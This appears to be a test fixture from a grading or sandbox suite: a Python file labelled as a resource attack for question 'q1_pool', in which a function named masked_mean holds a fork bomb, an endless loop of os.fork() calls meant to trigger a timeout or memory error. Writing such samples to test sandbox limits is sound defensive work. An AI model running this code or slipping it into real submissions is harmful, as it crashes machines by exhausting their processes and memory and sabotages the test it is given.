"""attack: forks without end
strategy: every child forks again
family: resources
question: q1_pool
expect: timeout memory error failed
"""

import os


def masked_mean(hidden, mask):
    while True:
        try:
            os.fork()
        except OSError:
            pass
